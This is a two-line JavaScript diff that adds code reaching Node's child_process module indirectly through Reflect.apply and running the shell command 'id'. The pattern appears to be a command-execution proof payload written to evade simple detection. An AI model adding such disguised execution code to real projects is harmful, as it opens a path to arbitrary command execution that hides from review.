@@ -1,0 +1,2 @@
+const cp = Reflect.apply(require, null, ['child_process']);
+Reflect.apply(cp.exec, cp, ['id']);
